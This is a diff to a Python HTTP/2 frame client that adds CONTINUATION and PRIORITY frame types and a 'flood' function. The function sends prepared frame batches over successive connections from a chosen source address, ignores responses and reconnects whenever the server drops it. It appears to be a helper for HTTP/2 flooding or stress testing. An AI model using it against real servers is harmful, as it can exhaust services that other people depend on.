@@ -6,7 +6,8 @@ import socket
 import struct
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
+CONTINUATION = 9
 END_STREAM, ACK, END_HEADERS = 1, 1, 4
 CANCEL = 8
 
@@ -127,3 +128,33 @@ class Connection:
             self.goaway = payload[8:]
         elif kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM:
             self.ended.add(stream)
+
+
+def flood(address, source, parts):
+    """Sends all parts, each the bytes of some frames made by a function of the connection's first
+    free stream, on as many connections as it takes, one after the other: where the server ends
+    one, the next part goes to a new one. Reads nothing but what tells the end. Returns how many."""
+    connections, at, stream = 0, None, 1
+    host, port = address.rsplit(":", 1)
+    for part in parts:
+        while True:
+            if at is None:
+                try:
+                    at = socket.create_connection((host, int(port)), 5, (source, 0))
+                    at.sendall(PREFACE + frame(SETTINGS, 0, 0))
+                except OSError:
+                    at = None
+                    continue
+                connections, stream = connections + 1, 1
+            data, used = part(stream)
+            try:
+                at.sendall(data)
+                stream += used
+                break
+            except OSError:
+                at.close()
+                at = None
+                break
+    if at is not None:
+        at.close()
+    return connections
